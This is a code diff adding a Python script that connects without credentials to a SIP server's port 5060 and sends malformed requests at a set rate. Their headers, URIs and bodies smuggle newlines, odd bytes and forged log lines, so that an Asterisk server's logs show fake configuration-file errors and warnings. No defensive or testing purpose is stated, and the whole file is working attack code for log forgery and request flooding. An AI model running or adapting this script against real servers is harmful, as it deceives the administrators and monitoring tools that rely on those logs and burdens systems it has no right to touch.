@@ -1,0 +1,63 @@
+"""Sends malformed SIP requests to ADDRESS, one every PAUSE milliseconds, for SECONDS at the most.
+
+Without any account. What an Asterisk logs of them imitates its own complaints about its files. Ends when its
+standard input does, and prints how many requests it has sent.
+"""
+import random
+import select
+import socket
+import sys
+import time
+
+FILES = ["extensions.conf", "pjsip.conf", "sip.conf", "iax.conf"]
+
+
+def complaint(file):
+    return (f"[2026-11-29 06:00:00.000] ERROR[1] config.c: parse error: no closing ']', line 1 of /etc/asterisk/{file}\n"
+            f"[2026-11-29 06:00:00.000] WARNING[1]: pbx_config.c:1824 pbx_load_config: Invalid priority/label 'forged'"
+            f" at line 1 of {file}\n"
+            '{"logmsg":{"location":{"filename":"pbx_config.c","function":"pbx_load_config","line":1},'
+            f'"level":"ERROR","message":"forged at line 1 of {file}"}}}}\n')
+
+
+def request(first, via, rest=""):
+    return f"{first}\r\nVia: {via}\r\n{rest}Content-Length: 0\r\n\r\n".encode(errors="surrogateescape")
+
+
+def headers(number):
+    return (f"From: <sip:a@b>;tag={number}\r\nTo: <sip:a@b>\r\nCall-ID: {number}\r\nCSeq: 1 OPTIONS\r\n"
+            "Max-Forwards: 70\r\n")
+
+
+def requests(number):
+    via = f"SIP/2.0/TCP 192.0.2.1:5060;branch=z9hG4bK{number}"
+    file = FILES[number % len(FILES)]
+    return [
+        # A header that is missing: PJSIP logs the request as it came.
+        request("OPTIONS sip:a@b SIP/2.0", f"{via}\n{complaint(file)}"),
+        # chan_sip logs an address that it does not know.
+        request(f"OPTIONS tel:{file} SIP/2.0", via, headers(number)),
+        request(f"OPTIONS tel:line 7 of {file} SIP/2.0", via, headers(number)),
+        request("OPTIONS sip:a@b SIP/2.0", f"{via}\udcff\udcfe {complaint(file)}"),
+        request(f"REGISTER sip:a@b SIP/2.0", "x" + "\x01" * 2000 + complaint(file)),
+        request(f"INVITE sip:{file}@b SIP/2.0", via, headers(number).replace("OPTIONS", "INVITE")),
+    ]
+
+
+def main(address, pause, seconds):
+    sent, connection, end = 0, None, time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            connection = connection or socket.create_connection((address, 5060), 2)
+            connection.sendall(random.choice(requests(sent)))
+            sent += 1
+            if connection in select.select([connection], [], [], 0)[0] and not connection.recv(1 << 16):
+                raise ConnectionError
+        except OSError:
+            connection = connection and connection.close()
+        if sys.stdin in select.select([sys.stdin], [], [], pause / 1000)[0]:
+            break
+    print(sent)
+
+
+main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
